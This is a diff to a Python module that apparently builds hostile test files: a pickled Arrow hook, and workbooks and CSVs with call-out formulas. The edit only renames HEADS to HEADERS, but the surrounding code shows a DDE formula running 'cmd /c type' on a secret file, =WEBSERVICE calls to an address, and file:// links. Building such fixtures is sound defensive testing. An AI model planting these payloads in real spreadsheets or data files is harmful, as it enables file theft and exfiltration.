@@ -50,7 +50,7 @@ def geoarrow(path, crs):
 
 def pickled(path, secret):
     """Records whose columns are of a type that is unpickled, and that pandas is to make anew."""
-    table = pa.Table.from_pandas(make.frame([make.HEADS, *make.ROWS]), preserve_index=False)
+    table = pa.Table.from_pandas(make.frame([make.HEADERS, *make.ROWS]), preserve_index=False)
     hook = pickle.dumps(Opens(str(secret)))
     said = {
         "ARROW:extension:name": "arrow.py_extension_type",
@@ -96,7 +96,7 @@ def encrypted(path, *, footer):
     )
     asked = encryption.KmsConnectionConfig(kms_instance_url="http://127.0.0.1/keys")
     keys = encryption.CryptoFactory(lambda _: Keys()).file_encryption_properties(asked, how)
-    table = pa.Table.from_pandas(make.frame([make.HEADS, *make.ROWS]), preserve_index=False)
+    table = pa.Table.from_pandas(make.frame([make.HEADERS, *make.ROWS]), preserve_index=False)
     with parquet.ParquetWriter(path, table.schema, encryption_properties=keys) as writer:
         writer.write_table(table)
     return path
@@ -104,7 +104,7 @@ def encrypted(path, *, footer):
 
 def workbook(path, secret, address):
     """A workbook with links, DDE, a query, an object, macros, and formulas that call out."""
-    rows = [[*make.HEADS, "甲"], *([*row, f'=WEBSERVICE("{address}")'] for row in make.ROWS)]
+    rows = [[*make.HEADERS, "甲"], *([*row, f'=WEBSERVICE("{address}")'] for row in make.ROWS)]
     make.write_xlsx(path, rows)
     relation = (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
@@ -135,11 +135,11 @@ def old_workbook(path, secret):
 
 def texts(path, secret, address):
     """A CSV in whose cells stand addresses and formulas: text, and nothing else."""
-    heads = [*make.HEADS, "备考", "备注"]
+    headers = [*make.HEADERS, "备考", "备注"]
     rows = [
         [*row, f"file://{secret}", f"=cmd|'/c type {secret}'!A1 {address}"] for row in make.ROWS
     ]
-    return make.write_csv(path, [heads, *rows])
+    return make.write_csv(path, [headers, *rows])
 
 
 def linked_zip(path, secret):
